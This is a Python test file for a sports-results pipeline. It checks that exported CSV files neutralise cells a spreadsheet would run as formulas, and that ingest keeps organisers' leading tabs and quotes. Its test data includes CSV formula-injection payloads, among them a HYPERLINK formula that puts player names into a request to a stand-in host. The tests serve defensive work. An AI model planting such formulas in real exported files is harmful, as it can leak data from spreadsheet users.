"""CSV files for people never hold a cell a spreadsheet would run as a formula (issue 24,
item 6), and the ingest keeps the organiser's own guard (a leading tab or quote)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import polars as pl
import pytest

from pipelines.reports.csv import spreadsheet_safe
from tests.support import ingested, results_csv
from tests.whatif_world import SEASON, write_world

# A cell a spreadsheet may read as a formula: its first character. A cell that is only a
# number (« -12 », « +3,5 ») is a number, never a formula.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?[0-9]+([.,][0-9]+)?")


def _formula_like(cell: str) -> bool:
    return cell.startswith(_FORMULA_START) and not _NUMBER.fullmatch(cell)


def test_formula_like_text_cells_get_a_quote_and_numbers_stay_numbers() -> None:
    frame = pl.DataFrame(
        {
            "nom": ['=HYPERLINK("http://x","x")', "+33 6", "-Marc", "@SUM(A1)", "\t=1", "Léa"],
            "écart": ["-12", "+3,5", "-1+2", "=1", "\r=2", "'=déjà"],
            "points": [-4, 3, -1, 0, 2, 5],
        }
    )
    safe = spreadsheet_safe(frame)
    assert safe["nom"].to_list() == [
        '\'=HYPERLINK("http://x","x")',
        "'+33 6",
        "'-Marc",
        "'@SUM(A1)",
        "'\t=1",
        "Léa",
    ]
    assert safe["écart"].to_list() == ["-12", "+3,5", "'-1+2", "'=1", "'\r=2", "'=déjà"]
    assert safe["points"].dtype == pl.Int64 and safe["points"].to_list() == [-4, 3, -1, 0, 2, 5]
    written = list(csv.reader(io.StringIO(safe.write_csv())))
    assert written[1][2] == "-4"  # a negative number is written as a number


def test_the_ingest_keeps_the_organisers_leading_tab_or_quote_and_trims_spaces() -> None:
    rows = [
        ("100", "\t=1+1", "Jean", 1),
        ("101", "'=HYPERLINK(1)", "  Anne ", 2),
        ("102", " Durand ", "\tLuc", 3),
        ("103", " \t@Martin", "Zoé", 4),
    ]
    result = ingested({"2023-2024/C1.csv": results_csv("C1", rows)})
    assert result.rejected == {}
    names = result.tables["players"].sort("player_id").select("last_name", "first_name").rows()
    assert names == [
        ("\t=1+1", "Jean"),
        ("'=HYPERLINK(1)", "Anne"),
        ("Durand", "Luc"),  # an ordinary tab or space around a name: trimmed, as before
        ("\t@Martin", "Zoé"),
    ]


def test_a_workbook_keeps_the_organisers_leading_tab_too() -> None:
    import xlsxwriter  # a dev dependency: only this test writes a workbook

    rows = [("100", "\t=1+1", "Jean", 1), ("101", " Durand ", "\tLuc", 2)]
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet("results")
    for r, line in enumerate(results_csv("C1", rows).splitlines()):
        sheet.write_row(r, 0, line.split(","))
    book.close()
    result = ingested({"2023-2024/C1.xlsx": buffer.getvalue()})
    assert result.rejected == {}
    names = result.tables["players"].sort("player_id").select("last_name", "first_name").rows()
    assert names == [("\t=1+1", "Jean"), ("Durand", "Luc")]


# The what-if on a world whose players' names begin with what a spreadsheet runs.
_HOSTILE = ('=HYPERLINK("http://x.invalid/?{}";"{}")', "+{}", "-{}", "@{}")


def _hostile_world(folder: Path) -> Path:
    """The what-if world with every player's last and first names made formula-like."""
    raw = write_world(folder)
    for path in sorted(raw.rglob("*.csv")):
        lines = path.read_text(encoding="utf-8").splitlines()
        header = lines[0].split(",")
        if "last_name" not in header:
            continue
        last, first = header.index("last_name"), header.index("first_name")
        out = [lines[0]]
        for line in lines[1:]:
            cells = line.split(",")
            index = int(cells[header.index("player_id")][1:])
            pattern = _HOSTILE[index % len(_HOSTILE)]
            for column in (last, first):
                value = pattern.format(cells[column], cells[column])
                cells[column] = '"' + value.replace('"', '""') + '"'
            out.append(",".join(cells))
        path.write_text("\n".join(out) + "\n", encoding="utf-8")
    return raw


@pytest.mark.slow
def test_every_csv_a_what_if_writes_has_no_formula_like_cell(tmp_path: Path) -> None:
    from pipelines.whatif.run import run_whatif
    from tests.builds import build

    raw = _hostile_world(tmp_path / "raw")
    summary = build(raw, tmp_path)
    assert summary.rejected == []
    out = tmp_path / "whatif"
    outputs = run_whatif(
        tmp_path / "w.duckdb",
        SEASON,
        ["series.min_divisor=10"],
        out_dir=out,
        reports_dir=tmp_path / "reports",
        pdf=False,
    )
    assert outputs.comparison.rows().height > 0
    # the names came through as written: the run is a real test of the file
    assert any(_formula_like(n) for n in outputs.comparison.rows()["nom"].to_list())
    written = sorted(out.rglob("*.csv"))
    assert written == [out / "changements.csv"]
    cells = 0
    for path in written:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
            for cell in row:
                cells += 1
                assert not _formula_like(cell), (path.name, cell)
    assert cells > 100
    rows = pl.read_csv(out / "changements.csv", infer_schema=False)
    assert rows["nom"].str.starts_with("'=HYPERLINK(").any()
    assert rows["nom"].str.starts_with("'+").any() and rows["nom"].str.starts_with("'@").any()
